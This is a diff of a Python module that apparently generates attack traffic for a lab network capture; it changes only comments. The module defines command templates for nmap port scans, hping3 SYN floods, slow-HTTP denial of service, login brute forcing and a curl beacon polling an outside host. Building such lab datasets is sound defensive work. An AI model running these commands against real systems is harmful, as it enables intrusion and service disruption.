@@ -1,6 +1,6 @@
-"""The attacks of the lab capture: one row a variant; see `lab_traffic` for how commands are written.
+"""The attacks of the lab capture, one `Activity` for each variant; `activity` explains how commands are written.
 
-All are bounded: in count by their own options, in time by the row.
+Each attack is bounded: its options limit how much it sends, and the activity limits how long it takes.
 """
 
 from __future__ import annotations
@@ -18,8 +18,8 @@ _FETCH += "http://{outside}{one[,:8080]}/file{i[1-6]}.bin; sleep {f[0.1-0.8]}; n
 _LINES = "tail -n +{i[1-12]} {dir}/FILE | head -n {i[6-16]} | while read -r q; do"
 
 _PORTSCAN = (
-    # Scanners at once, each from a port of its own (-g; -sT has the kernel's), spread the source ports: nmap's own
-    # choice goes above the kernel's range.
+    # nmap itself chooses source ports above the kernel's range. So each scanner gets one within it (-g; with -sT the
+    # kernel chooses), and several scanners at once spread the ports.
     Activity("Portscan", "SYN scan", _SCAN + " -sS -T{i[3-5]} -g {sport} -p {ports} {target}", copies=2),
     Activity("Portscan", "connect scan", _SCAN + " -sT -T{i[3-4]} -p {ports} {target}", copies=2),
     Activity(
@@ -49,8 +49,8 @@ _PORTSCAN = (
     Activity("Portscan", "version scan", _SCAN + " -sT -sV --version-light -p {ports} {target}", seconds=9.0),
 )
 _DOS = (
-    # hping3 counts its source port up from a base: short runs from bases of their own spread it. They run one after
-    # another, for each hping3 would count the other's replies as its own and stop early.
+    # hping3 counts its source port up from a base. So many short runs, each from its own base, spread the ports. They
+    # run one after another, because each hping3 would count another's replies as its own and stop early.
     Activity("DoS", "SYN flood", _FLOOD.replace("PORT", "{one[80,8080]}"), weight=4),
     Activity("DoS", "SYN flood on SSH", _FLOOD.replace("PORT", "22"), 22),
     Activity("DoS", "SYN flood on DNS", _FLOOD.replace("PORT", "53"), 53),
@@ -66,7 +66,7 @@ _DOS = (
     Activity("DoS", "slow read", _SLOW + " -X -w {i[10-60]} -y {i[100-600]} -n 1 -z {i[16-200]} -k {i[1-3]}"),
     Activity("DoS", "range headers", _SLOW + " -R -a {i[1-20]} -b {i[200-900]}"),
 )
-# The list never holds the password: the guessing fails to its end.
+# The list of words never contains the password, so the guessing fails until its end.
 _BRUTE_FORCE = (
     Activity(
         "Brute force",
@@ -148,7 +148,7 @@ _WEB_ATTACK = (
         " -s {one[80,80,8080]} {server} http-post-form '/app/login:user=^USER^&password=^PASS^:wrong'",
     ),
 )
-# What begins with "run" is a command: the beacon sends its text back as the result, and nothing is run.
+# An answer that begins with "run" is a command. The beacon runs nothing; it sends the answer back as the result.
 _BEACON = (
     f"for s in {{beats}}; do r=$(curl -s -A {{one[bot,Mozilla/5.0,curl/8]}} '{_POLL}');"
     f" case $r in run*) curl -s -d \"$r\" '{_POLL}';; esac; sleep $s; done"
@@ -191,7 +191,7 @@ _INFILTRATION = (
         _FETCH + " -Pn -sT -sV --version-light -p 21-23,80,443,445,3306,8080 {peers} {inside}",
         seconds=9.0,
     ),
-    # Not the server: the clients' ICMP with it is Normal.
+    # The servers are not scanned, because ICMP between them and the clients is Normal.
     Activity(
         "Infiltration",
         "file, then UDP scan",
@@ -206,7 +206,8 @@ _INFILTRATION = (
     ),
 )
 
-# Attackers stand outside and attack; clients are inside, and what has got into them spies and reports.
+# Attackers are outside the network and attack it. Clients are inside, and malware on them scans it and reports.
+# Both have beacons of Botnet.
 _OUTSIDE = (*_PORTSCAN, *_DOS, *_BRUTE_FORCE, *_WEB_ATTACK)
 ATTACKS = (
     *(replace(a, hosts="attacker") for a in _OUTSIDE),
